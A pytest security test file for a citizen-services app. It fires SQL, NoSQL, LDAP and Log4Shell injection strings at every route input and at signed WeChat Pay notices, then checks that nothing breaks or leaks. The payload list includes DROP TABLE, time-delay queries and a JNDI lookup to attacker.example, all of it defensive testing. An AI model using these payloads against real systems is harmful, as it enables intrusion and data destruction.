"""SQL and NoSQL injection strings in every text input of every route, one input at a time, past validation.

Walked generically from the live router and the OpenAPI document. For each operation a baseline request
is built that passes validation (tests/security/inputs.py: a body the schema accepts, the world's own ids
where a field names an object, the query parameters the handler reads with their defaults, a fresh
Idempotency-Key on writes). Where the service still names a field as wrong, the baseline is mended: a time
in the past, a code of digits, an optional field left out. Then every input is attacked on its own, the
rest of the request left valid, with every attack string: each string of the body by its JSON path (the
NoSQL operator objects too), each query parameter, each path parameter, the headers a handler reads, and
on a few routes the headers read on every request. Payments go through the stand-in WeChat Pay gateway; a rate
limit this test runs up is reset, so what is behind it is attacked too.

Every answer is a clear reply below 500 within the time limit, without a database word in it; afterwards
the data is intact (the same citizens, tables, an unbroken audit chain); and most inputs were attacked
around a baseline that got past validation, so the attacks reached the handlers and the database, not
just the request parser (the numbers are printed).
"""
from __future__ import annotations

import re
import secrets
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import pytest
from tortoise import connections

from app.accounts.models import Citizen
from app.audit import verify_chain
from app.config import Settings
from app.payments.models import PaidReference, Payment, Refund
from health_code.interop import default_adapters
from tests.conftest import WeChatPayGateway
from tests.factories import live_sample, new_phone, sign_in, valid_id_number, verify_real_name
from tests.payments import wechatpay_notices
from tests.payments.conftest import NOTIFY_PATH
from tests.payments.wechatpay_notices import HeldPlatform, notice_of, pinned, refund, transaction
from tests.security.inputs import (Path, error_code, past_time, past_validation, query_parameters, rate_limit_counters,
                                   replaced, request_schema, singular, string_leaves, valid_example, value_of, without)
from tests.security.routes import PARAM, Endpoint, endpoints, resolve
from tests.security.world import World, build_world

held_platform = wechatpay_notices.held_platform  # the fixture: a gateway signing with a platform key we hold

ATTACKS = [
    "' OR '1'='1' --",
    "'; DROP TABLE citizens; --",
    "1; SELECT pg_sleep(3); --",
    "\" OR \"\"=\"",
    "%' OR 1=1 OR '%'='",
    "{\"$gt\": \"\"}",
    "'; WAITFOR DELAY '0:0:3'--",
    "\\x00\u0000'",
    "${jndi:ldap://attacker.example/a}",
    "*)(uid=*))(|(uid=*",
]
# What a reply would show if an attack reached the database layer (an echo of the input is fine).
DATABASE_WORDS = ["Traceback", "syntax error", "sqlite3", "asyncpg", "psycopg", "OperationalError", "tortoise"]
NOSQL_OBJECTS = [{"$gt": ""}, {"$ne": None}, {"$where": "sleep(3000)"}]
# Read by the service on every request (app/server.py), whatever the route: attacked on a few routes.
EVERY_REQUEST_HEADERS = ("Accept-Language", "X-Request-ID")
HEADER_ROUTES_PER_AUDIENCE = 2
SKIPPED = ("auth/logout", "me/sessions/<session_id:str>")  # they only sign the attacker out
SLOW = 2.5  # seconds: pg_sleep(3) or WAITFOR run by an injection would take longer
# Of the inputs, those attacked around a baseline that passed validation: 288 of 304 (95 %) measured on SQLite
# and on PostgreSQL + Redis; before, one body per route carried the attack in every field and 557 of ~1,300
# requests stopped at 422. Below this, the baselines broke (a schema or a route changed): mend them.
PASSED_SHARE = 0.90
# Of the attack requests themselves, those that got past validation and the guards into a handler (an attack
# in a field with a pattern, a format or an enum is rightly refused with 422, and so is every NoSQL operator
# object): 1,788 of 3,595 (50 %) on SQLite, 1,753 (49 %) on PostgreSQL + Redis; no guard refused an attack.
REACHED_SHARE = 0.45
MIN_INPUTS = 280


DROP = object()  # a baseline fix: leave the field out


@dataclass
class Operation:
    endpoint: Endpoint
    schema: dict[str, Any] | None
    query: dict[str, str]  # name -> the handler's default ("" when none)
    headers: list[str]  # the headers the handler itself reads
    fixes: dict[Path, Any] = field(default_factory=dict)  # what the service named as wrong in the baseline -> instead
    query_fixes: dict[str, Any] = field(default_factory=dict)  # a query parameter named as wrong -> instead
    baseline_status: int = 0
    baseline_code: str = ""
    baseline_fields: str = ""

    @property
    def name(self) -> str:
        return f"{self.endpoint.method} {self.endpoint.path}"

    @property
    def passed(self) -> bool:
        return past_validation(self.baseline_status, self.baseline_code, self.endpoint.audience)


def first(value: Any, key: str) -> Any:
    """The first value under `key` anywhere in a JSON reply."""
    if isinstance(value, dict):
        if value.get(key) not in (None, "", [], {}):
            return value[key]
        value = list(value.values())
    if isinstance(value, list):
        for item in value:
            found = first(item, key)
            if found is not None:
                return found
    return None


def prefix(endpoint: Endpoint) -> str:
    """The collection a path parameter indexes: api/v1/licences for api/v1/licences/<licence_id>/shares."""
    return endpoint.path[:PARAM.search(endpoint.path).start()].rstrip("/")


async def every_get_reply(client, app, world: World) -> dict[str, Any]:
    """The JSON reply of every GET route without path parameters, by path, as the caller of its audience."""
    replies: dict[str, Any] = {}
    for endpoint in endpoints(app):
        if endpoint.method == "GET" and not endpoint.params:
            reply = await client.get(endpoint.url(), headers=await headers_for(world, endpoint))
            if "json" in reply.headers.get("content-type", ""):
                replies[endpoint.path] = reply.json()
    return replies


def own_ids_in(replies: dict[str, Any], app, document: dict) -> dict[str, Any]:
    """The caller's own object ids: a `..._id` key in a reply, or the `id` of the first item of the collection a
    path parameter indexes."""
    names = {p for e in endpoints(app) for p in e.params} | set(re.findall(r"'([a-z_]+_id)'", str(document)))
    known: dict[str, Any] = {}
    for name in sorted(n for n in names if n.endswith("_id")):
        found = next((first(r, name) for r in replies.values() if isinstance(first(r, name), str)), None)
        if found:
            known[name] = found
    for endpoint in endpoints(app):
        if endpoint.params:
            found = first(replies.get(prefix(endpoint)), endpoint.params[0]) or first(replies.get(prefix(endpoint)), "id")
            if isinstance(found, str):
                known[endpoint.params[0]] = found
    return known


async def known_values(client, app, world: World, clock, document: dict) -> dict[str, Any]:
    """What the world has for a field or parameter name: the caller's own object ids, read back from every
    GET route of its audience (a `..._id` key in a reply, or the `id` of the first item of the collection a
    path parameter indexes), and what a real person would type or hold (a phone, an ID number, a device
    proof signed by the phone's key, a payable's reference and amount)."""
    replies = await every_get_reply(client, app, world)
    known = own_ids_in(replies, app, document)
    other = world.other
    payable = (first(replies.get("api/v1/payables"), "items") or [{}])[0]
    known.update({
        "phone": new_phone, "proxy_phone": new_phone, "principal_phone": new_phone, "new_phone": new_phone,
        "redirect_uris": ["https://zfj.gz.gov.cn.example/oidc/callback"], "scopes": ["openid", "profile"],
        "id_number": valid_id_number(birth="19700101", sequence="555"), "holder_id_number": world.owner.id_number,
        "principal_id_number": world.owner.id_number, "voucher_id": other.voucher_id,
        "device_proof": lambda: other.phone.proof(known["voucher_id"], clock), "device_key": other.phone.public_jwk(),
        "locked": False, "liveness_sample": live_sample, "attributes": ["age_over_18"], "disclose": ["age_over_18"],
        "region_code": "440100", "region_level": "city", "region": "440106", "travel_regions": ["440106"],
        "rules": {"all": [{"fact": "region", "op": "starts_with", "value": "44"}]}, "id": "MO",
        "formats": [default_adapters()[0].name], "api_keys": [{**other.phone.public_jwk(), "kid": "inj-key-1"}],
        "life_events": [first(replies.get("api/v1/life-events"), "code")],
        "types": first(replies.get("api/v1/home/cards"), "types"), "card_type": "health_code",
        "reference": payable.get("reference"), "amount_fen": payable.get("amount_fen"),
        "answers": {topic: "accept" for topic in first(replies.get("api/mp/v1/subscriptions"), "templates") or {}},
        "day": first(replies.get("api/v1/appointments"), "day"),
    })
    return {k: v for k, v in known.items() if v not in (None, [None], {})}


def learn(known: dict[str, Any], app, op: "Operation", reply) -> None:
    """What a write created names an object later routes take: the id of a new venue is the venue_id of
    api/admin/v1/venues/<venue_id>/exposures (and its venue_code what a check-in scans), a new voucher's
    the voucher_id its device proofs name."""
    if reply.status_code not in (200, 201) or op.endpoint.method != "POST" or \
            "json" not in reply.headers.get("content-type", ""):
        return
    created = reply.json().get("id") if isinstance(reply.json(), dict) else None
    if not isinstance(created, str):
        return
    known[f"{singular(op.endpoint.path.rsplit('/', 1)[-1]).replace('-', '_')}_id"] = created
    for key, value in reply.json().items():
        if key.endswith(("_id", "_code")) and isinstance(value, str):
            known.setdefault(key, value)
    for endpoint in endpoints(app):
        if endpoint.params and prefix(endpoint) == op.endpoint.path:
            known[endpoint.params[0]] = created


async def headers_for(world: World, endpoint: Endpoint, extra: dict[str, str] | None = None) -> dict[str, str]:
    headers = await world.credentials.headers(endpoint.audience) if endpoint.audience != "public" else {}
    if endpoint.writes:
        headers["Idempotency-Key"] = f"inj-{secrets.token_hex(8)}"  # fresh: each request is a new one
    return {**headers, **(extra or {})}


HEADER_READ = re.compile(r"""request\.headers\.get\(\s*["']([^"']+)["']""")


def operations(app, document: dict) -> list[Operation]:
    """Every operation, the destructive ones last: writes with a body first (a collection before what is
    under it, so what it creates is there to be named), then reads, then writes without a body (a
    withdrawal, a cancellation), then DELETEs."""
    handlers = {(route.path, method): route.handler for route in app.router.routes for method in route.methods}
    found = []
    for endpoint in endpoints(app):
        if endpoint.path.endswith(SKIPPED):
            continue
        handler = handlers[(endpoint.path, endpoint.method)]
        schema = request_schema(document, endpoint) if endpoint.method in ("POST", "PUT", "PATCH") else None
        found.append(Operation(endpoint, schema, query_parameters(handler),
                               [h for h in query_parameters(handler, HEADER_READ) if h.lower() != "authorization"]))
    def rank(op: Operation) -> int:
        return 3 if op.endpoint.method == "DELETE" else 1 if op.endpoint.method == "GET" else 0 if op.schema else 2
    return sorted(found, key=lambda op: (rank(op), op.endpoint.path, op.endpoint.method))


def header(attack: str) -> str:
    """An attack as a header value can carry it: without control characters."""
    return "".join(c for c in attack if c >= " ")


def optional(document: dict, schema: dict | None, path: Path) -> bool:
    """Whether the field at `path` (a property, or an element of a list) may be left out of the body."""
    node = resolve(document, schema or {})
    for step in path:
        node = plain(document, node)
        if isinstance(step, int):
            if step >= node.get("minItems", 0):
                return True
            node = resolve(document, node.get("items", {}))
            continue
        if step not in node.get("properties", {}):
            return False
        if step == path[-1] and step not in node.get("required", []):
            return True
        node = resolve(document, node["properties"][step])
    return False


def schema_at(document: dict, schema: dict | None, path: Path) -> dict:
    node = resolve(document, schema or {})
    for step in path:
        node = plain(document, node)
        node = resolve(document, node.get("items", {}) if isinstance(step, int) else node.get("properties", {}).get(step, {}))
    return plain(document, node)


def plain(document: dict, schema: dict) -> dict:
    """A schema without its `anyOf: [..., null]` wrapper."""
    for combinator in ("anyOf", "oneOf"):
        if combinator in schema:
            options = [resolve(document, s) for s in schema[combinator] if s.get("type") != "null"]
            return options[0] if options else schema
    return schema


def at(value: Any, path: Path) -> Any:
    """The part of `value` at `path`, or None."""
    for step in path:
        try:
            value = value[step]
        except (KeyError, IndexError, TypeError):
            return None
    return value


def fixed(value: Any, path: Path, fix: Any) -> Any:
    """`value` with the field at `path` replaced by `fix` (or dropped for DROP), when it has that field."""
    parent, key = at(value, path[:-1]), path[-1]
    if parent is None or (isinstance(key, int) and len(parent) <= key) or (isinstance(key, str) and key not in parent):
        return value
    return without(value, path) if fix is DROP else replaced(value, path, fix)


def inputs_of(op: Operation, leaves: list[Path]) -> list[tuple[str, Any]]:
    """Every text input of an operation: each string of its body, its query parameters, its path parameters and
    the headers its handler reads itself."""
    return [("body", leaf) for leaf in leaves] + [("query", name) for name in op.query] + \
        [("path", name) for name in op.endpoint.params] + [("header", name) for name in op.headers]


def header_routes(ops: list[Operation]) -> list[Operation]:
    """The first routes of each audience whose baseline passed: where the headers read on every request are
    attacked."""
    chosen: dict[str, list[Operation]] = {}
    for op in ops:
        if op.passed and len(chosen.setdefault(op.endpoint.audience, [])) < HEADER_ROUTES_PER_AUDIENCE:
            chosen[op.endpoint.audience].append(op)
    return [op for group in chosen.values() for op in group]


def summary(ops: list[Operation], attacked: dict[tuple[str, str], bool], stopped: Counter[str], *, sent: int,
            limited: int, reached: int, attacks: int, seconds: float) -> str:
    """What the walk did, printed for whoever reads the test's output."""
    passed = sum(attacked.values())
    share = passed / len(attacked)
    kinds = {kind: sum(1 for _, where in attacked if where.startswith(kind)) for kind in ("body", "query", "path", "header")}
    return (f"\n{sent} requests ({limited} sent again after a rate limit), {len(ops)} operations, {len(attacked)} "
            f"inputs attacked ({', '.join(f'{n} {kind}' for kind, n in kinds.items())}), {passed} ({share:.0%}) around "
            f"a baseline past validation; {reached} of {attacks} attacks ({reached / attacks:.0%}) reached a handler "
            f"past validation and the guards; {seconds:.0f} s\nattacks stopped before a handler: "
            f"{', '.join(f'{n} {what}' for what, n in stopped.most_common())}\nbaselines that did not pass:\n  " +
            "\n  ".join(f"{op.name} {op.baseline_status} {op.baseline_code} {op.baseline_fields}"
                         for op in ops if not op.passed))


@pytest.fixture
def settings(settings: Settings, wechatpay_gateway: WeChatPayGateway) -> Settings:
    """Payments go through the stand-in WeChat Pay gateway (its own process), so a payment's text reaches the
    database and the gateway instead of stopping at 503 PAYMENT_PROVIDER_UNAVAILABLE."""
    return wechatpay_gateway.settings(settings)


@pytest.fixture
async def world(app, client, sms, clock, platform):
    return await build_world(client, sms, clock, platform)


@pytest.mark.departments  # the department services' routes reach the stand-in departments, signed both ways
async def test_injection_strings_in_every_text_input_are_answered_below_500_and_change_nothing(
        app, client, world, clock, platform, monkeypatch, departments_live):
    started_all = time.monotonic()
    document = (await client.get("/docs/openapi.json")).json()
    conn = connections.get("default")
    citizens_before = await Citizen.all().count()
    known = await known_values(client, app, world, clock, document)
    problems: list[str] = []
    sent = attacks = reached = limited = 0
    stopped: Counter[str] = Counter()  # attacks refused before a handler: status and code
    attacked: dict[tuple[str, str], bool] = {}  # (operation, input) -> the baseline around it passed validation

    # Rate limits (tested in test_brute_force.py) would stop the attacks before the handler: the counters
    # this test runs up are wiped and the request sent again, so what is behind the limit is attacked too.
    counters = rate_limit_counters(platform, monkeypatch)

    def body_of(op: Operation) -> Any:
        if op.schema is None:
            return None
        body = valid_example(document, op.schema, known, clock.now())
        for path in sorted(op.fixes, key=len, reverse=True):
            body = fixed(body, path, op.fixes[path])
        return body

    def query_of(op: Operation) -> dict[str, str]:
        """The handler's defaults, the world's values, or free text; a parameter the service named as wrong
        left out."""
        query = {name: default or str(value_of(known.get(name, "示例"))) for name, default in op.query.items()}
        query.update(op.query_fixes)
        return {name: value for name, value in query.items() if value is not DROP}

    def url(op: Operation, values: dict[str, str]) -> str:
        def value(m: re.Match) -> str:
            text = values[m.group(1)] if m.group(1) in values else str(known.get(m.group(1), "x"))
            return quote(text.replace("/", "") or "x", safe="")
        return "/" + PARAM.sub(value, op.endpoint.path)

    async def send(op: Operation, what: str, body: Any = None, query: dict | None = None, path: dict | None = None,
                   headers: dict[str, str] | None = None, attack: bool = True):
        nonlocal sent, attacks, reached, limited
        target = url(op, path or {})
        for _ in range(3):
            started = time.monotonic()
            reply = await client.request(op.endpoint.method, target, params=query, json=body,
                                         headers=await headers_for(world, op.endpoint, headers))
            took = time.monotonic() - started
            sent += 1
            if error_code(reply) == "RATE_LIMITED":
                limited += 1
                for key in counters:
                    await platform.cache.delete(key)
            elif took <= SLOW:
                break  # else a busy machine, or pg_sleep run by an injection: only the injection is slow again
        code = error_code(reply)
        if attack:
            attacks += 1
            if past_validation(reply.status_code, code, op.endpoint.audience):
                reached += 1
            else:
                stopped[f"{reply.status_code} {code}"] += 1
        name = f"{op.name} with {what}"
        if reply.status_code >= 500 or took > SLOW:
            problems.append(f"{name}: {reply.status_code} in {took:.1f}s {reply.text[:150]}")
        elif "json" in reply.headers.get("content-type", "") and reply.status_code >= 400:
            error = reply.json().get("error", {})
            leaked = [w for w in DATABASE_WORDS if w in reply.text]
            # The OpenID Connect endpoints answer in RFC 6749's error form, which sites' OAuth libraries parse.
            oauth_form = op.endpoint.path.startswith("oidc/") and isinstance(error, str)
            if not (oauth_form or {"code", "message", "request_id"} <= set(error)) or leaked:
                problems.append(f"{name}: not a clean envelope {reply.text[:150]}")
        return reply, code

    async def baseline(op: Operation) -> None:
        """Valid as far as the schema goes; where the service still names a field as wrong, a time or date
        in the past, a code of digits, an optional field inside it (one of two alternatives) left out or the
        field left out. Refused as a whole, an optional list or object left out: kept only if that helped."""
        tried: set[Path] = set()
        trial: Path | None = None
        for _ in range(12):
            reply, code = await send(op, "the baseline", body_of(op), query_of(op), attack=False)
            learn(known, app, op, reply)
            if trial is not None and reply.status_code == 422 and code == op.baseline_code:
                del op.fixes[trial]  # leaving it out changed nothing
            trial = None
            op.baseline_status, op.baseline_code = reply.status_code, code
            if reply.status_code != 422:
                return
            wrong = [f["field"] for f in reply.json()["error"].get("fields") or []
                     if isinstance(f, dict) and f.get("field") not in (None, "", "body")]
            op.baseline_fields = ",".join(wrong)
            named = [name for name in wrong if name in op.query and name not in op.query_fixes]
            if named:
                op.query_fixes.update({name: DROP for name in named})
                continue
            body = body_of(op)
            paths = [tuple(int(p) if p.isdigit() else p for p in name.split(".")) for name in wrong]
            candidates: list[tuple[Path, Any]] = []
            for path in paths:
                schema = schema_at(document, op.schema, path)
                if schema.get("format") in ("date", "date-time"):
                    candidates.append((path, past_time(schema, clock.now())))
                elif schema.get("type") == "string" and "pattern" not in schema:
                    candidates.append((path, "0" * max(6, schema.get("minLength", 0))))  # a code of digits
                inner = at(body, path)
                candidates += [((*path, key), DROP) for key in (sorted(inner) if isinstance(inner, dict) else [])]
                candidates.append((path, DROP))
            # A field the schema does not have (a time checked under another name): every time in the past.
            candidates += [(path, past_time(schema_at(document, op.schema, path), clock.now()))
                           for path in string_leaves(body) if not any(path[:len(p)] == p for p in paths)
                           and schema_at(document, op.schema, path).get("format") in ("date", "date-time")]
            fix = next(((path, value) for path, value in candidates if path not in op.fixes and
                        (value is not DROP or optional(document, op.schema, path))), None)
            if fix is None:  # refused as a whole: try without an optional list or object, one at a time
                trial = next(((key,) for key, value in (body or {}).items() if isinstance(value, (list, dict))
                              and (key,) not in tried and optional(document, op.schema, (key,))), None)
                if trial is None:
                    return
                tried.add(trial)
                fix = (trial, DROP)
            op.fixes[fix[0]] = fix[1]

    async def attack_input(op: Operation, kind: str, where: str, attack: Any) -> None:
        if kind == "body":
            await send(op, f"{attack!r} at {where}", replaced(body_of(op), where, attack), query_of(op))
        elif kind == "query":
            await send(op, f"{attack!r} in ?{where}", body_of(op), {**query_of(op), where: attack})
        elif kind == "path":
            await send(op, f"{attack!r} in <{where}>", body_of(op), query_of(op), {where: attack})
        else:  # read by this handler itself (an Idempotency-Key)
            await send(op, f"{attack!r} in {where}:", body_of(op), query_of(op), headers={where: header(attack)})

    ops = operations(app, document)
    for op in ops:
        await baseline(op)
        for kind, where in inputs_of(op, string_leaves(body_of(op))):
            attacked[(op.name, f"{kind} {where}")] = op.passed
            for attack in [*ATTACKS, *NOSQL_OBJECTS] if kind == "body" else ATTACKS:
                await attack_input(op, kind, where, attack)

    # The headers read on every request: on the first routes of each audience whose baseline passed.
    for op in header_routes(ops):
        for name in EVERY_REQUEST_HEADERS:
            attacked[(op.name, f"header {name}")] = True
            for attack in ATTACKS:
                await send(op, f"{attack!r} in {name}:", body_of(op), query_of(op), headers={name: header(attack)})

    passed = sum(attacked.values())
    share = passed / len(attacked)
    print(summary(ops, attacked, stopped, sent=sent, limited=limited, reached=reached, attacks=attacks,
                  seconds=time.monotonic() - started_all))
    assert not problems, "\n".join(problems)
    assert len(attacked) >= MIN_INPUTS, len(attacked)
    assert share >= PASSED_SHARE, f"only {passed} of {len(attacked)} inputs were attacked past validation"
    assert reached >= REACHED_SHARE * attacks, f"only {reached} of {attacks} attacks reached a handler: {stopped}"
    assert await Citizen.all().count() == citizens_before
    await conn.execute_query("SELECT COUNT(*) FROM citizens")  # the table is still there
    report = await verify_chain()
    assert report.ok, report


class TestInjectionInNoticesWeChatPaySigned:
    """The payment notice's text is encrypted and signed, so the walk above (which cannot sign as WeChat Pay)
    stops at 401. Here a stand-in gateway signs with a platform key this module holds, our app pinning its
    public key: each attack string goes in each text field of a transaction or refund notice, past the
    signature and the decryption, to where our callback looks it up and logs it."""

    @pytest.fixture
    def settings(self, settings: Settings, held_platform: HeldPlatform) -> Settings:
        return pinned(settings, held_platform)

    async def test_injection_strings_in_a_signed_notice_are_answered_below_500_and_change_nothing(
            self, client, sms, held_platform):
        platform = held_platform.signer
        citizen = await sign_in(client, sms)
        await verify_real_name(client, citizen)
        payable = (await client.get("/api/v1/payables", headers=citizen.headers)).json()["items"][0]
        started = await client.post("/api/v1/payments", headers={**citizen.headers, "Idempotency-Key": "inj-notice-01"},
                                    json={"reference": payable["reference"], "amount_fen": payable["amount_fen"]})
        assert started.status_code == 201, started.text
        paid = transaction(started.json()["id"], payable["amount_fen"])
        body = notice_of(paid)
        assert (await client.post(NOTIFY_PATH, content=body, headers=platform.headers(body))).status_code == 200
        citizens_before = await Citizen.all().count()

        def notices(attack: str) -> dict[str, bytes]:
            return {
                "id": notice_of(paid, notice_id=attack),
                "event_type": notice_of(paid, event_type=f"TRANSACTION.{attack}"),
                **{f"transaction {name}": notice_of({**paid, name: attack})
                   for name in ("out_trade_no", "transaction_id", "trade_state", "mchid", "success_time")},
                "transaction amount.currency": notice_of({**paid, "amount": {**paid["amount"], "currency": attack}}),
                **{f"refund {name}": notice_of({**refund(paid, "RF0001", 100), name: attack}, "REFUND.SUCCESS")
                   for name in ("out_refund_no", "refund_id", "refund_status", "out_trade_no")},
            }

        problems, answered = [], Counter()
        for attack in ATTACKS:
            for where, body in notices(attack).items():
                begun = time.monotonic()
                reply = await client.post(NOTIFY_PATH, content=body, headers=platform.headers(body))
                took = time.monotonic() - begun
                answered[reply.status_code] += 1
                leaked = [w for w in DATABASE_WORDS if w in reply.text]
                if reply.status_code >= 500 or took > SLOW or leaked:
                    problems.append(f"{attack!r} at {where}: {reply.status_code} in {took:.1f}s {reply.text[:150]}")
        assert not problems, "\n".join(problems)
        assert set(answered) <= {200, 400, 422}, answered
        assert answered[422] >= len(ATTACKS) * 4  # most reached the lookup of our order or refund

        payment = await Payment.get(id=paid["out_trade_no"])
        assert payment.state == "success" and payment.provider_order_id == paid["transaction_id"]
        assert await PaidReference.filter(payment_id=payment.id).count() == 1 and await Refund.all().count() == 0
        assert await Citizen.all().count() == citizens_before
        await connections.get("default").execute_query("SELECT COUNT(*) FROM citizens")  # the table is still there
        report = await verify_chain()
        assert report.ok, report
